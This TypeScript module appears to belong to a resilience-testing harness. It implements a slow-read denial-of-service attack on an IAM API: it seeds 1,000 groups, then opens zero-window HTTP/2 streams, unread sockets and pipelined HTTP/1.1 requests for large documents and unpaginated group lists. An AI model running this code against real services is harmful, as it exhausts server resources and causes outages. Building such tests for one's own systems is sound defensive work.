// Asks for large responses and does not read them: with a stream window of zero, by
// no longer reading the socket, and by HTTP/1.1 requests one after the other;
// documents that are open to everybody, and unpaginated lists of version 1 over REST,
// gRPC and Connect.
import { connect, type Socket } from "node:net";
import { type Attack, Counts, pause, pick } from "../support/attack.js";
import { dataFrame, type FrameConnection, grpcFields, headersFrame, openFrames } from "../support/frames.js";
import { frame } from "../support/grpc.js";
import { createGroups } from "../support/http.js";
import type { Target } from "../support/world.js";

const GROUPS = 1_000;
const DESCRIPTION = "d".repeat(512);
const SILENT_CONNECTIONS = 12;
const STREAMS = 100;
const PIPELINES = 40;
const PIPELINED = 30;
const OPEN_EVERY_MS = 100;
const DOCUMENTS = ["/openapi.json", "/docs/swagger-ui-bundle.js"];
const LIST = "/chainguard.platform.iam.Groups/List";

export const attack: Attack<number> = {
  prepare: ({ url, token, group, addresses: [address = ""] }) =>
    createGroups({ url, token, address }, group, GROUPS, { name: "g", description: DESCRIPTION }),

  async run(target, stop, groups) {
    const counts = new Counts();
    counts.add("groups", groups);
    const closers: (() => void)[] = [];
    for (let i = 0; i < Math.max(SILENT_CONNECTIONS, PIPELINES) && !stop.aborted; i++) {
      if (i < SILENT_CONNECTIONS) closers.push(await silentSession(target, i, counts));
      if (i < PIPELINES) closers.push(pipeline(target, i, counts));
      await pause(OPEN_EVERY_MS, stop);
    }
    await pause(60_000, stop);
    for (const close of closers) close();
    return counts;
  },
};

// With a window of zero, or with a usual one on a socket that is not read.
async function silentSession({ url, addresses, token, group }: Target, i: number, counts: Counts): Promise<() => void> {
  const connection: FrameConnection = openFrames(url, pick(addresses, i), i % 2 === 0 ? 0 : undefined);
  try {
    await connection.ready;
  } catch {
    counts.add("not connected");
    return () => {};
  }
  if (i % 2 === 1) connection.pause();
  const { host } = new URL(url);
  const get = (path: string, bearer?: string) => ({
    ":method": "GET",
    ":scheme": "http",
    ":authority": host,
    ":path": path,
    ...(bearer !== undefined && { authorization: `Bearer ${bearer}` }),
  });
  // ListGroups of version 1: field 1 of the request is the parents' filter; empty lists every visible group.
  const message = frame(new Uint8Array());
  const open = Array.from({ length: STREAMS }, (_, j) => {
    const id = 1 + 2 * j;
    const kind = (i + j) % 5;
    if (kind < 2) return [headersFrame(id, get(pick(DOCUMENTS, j)), true)];
    if (kind === 2) return [headersFrame(id, get(`/iam/v1/groups?uidp.descendants_of=${group}`, token), true)];
    if (kind === 3) return [headersFrame(id, grpcFields(url, LIST, token)), dataFrame(id, message, true)];
    const fields = {
      ...grpcFields(url, LIST, token),
      "content-type": "application/proto",
      "connect-protocol-version": "1",
    };
    return [headersFrame(id, fields, true)];
  });
  connection.send(...open.flat());
  counts.add("unread streams", STREAMS);
  return () => connection.close();
}

function pipeline({ url, addresses, token, group }: Target, i: number, counts: Counts): () => void {
  const { host, port } = new URL(url);
  const socket: Socket = connect({ host: "127.0.0.1", port: Number(port), localAddress: pick(addresses, i) });
  socket.on("error", () => {});
  socket.pause();
  const get = (path: string) => `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${token}\r\n\r\n`;
  const paths = [...DOCUMENTS, `/iam/v1/groups?uidp.descendants_of=${group}`];
  socket.write(Array.from({ length: PIPELINED }, (_, j) => get(pick(paths, i + j))).join(""));
  counts.add("pipelined", PIPELINED);
  return () => socket.destroy();
}
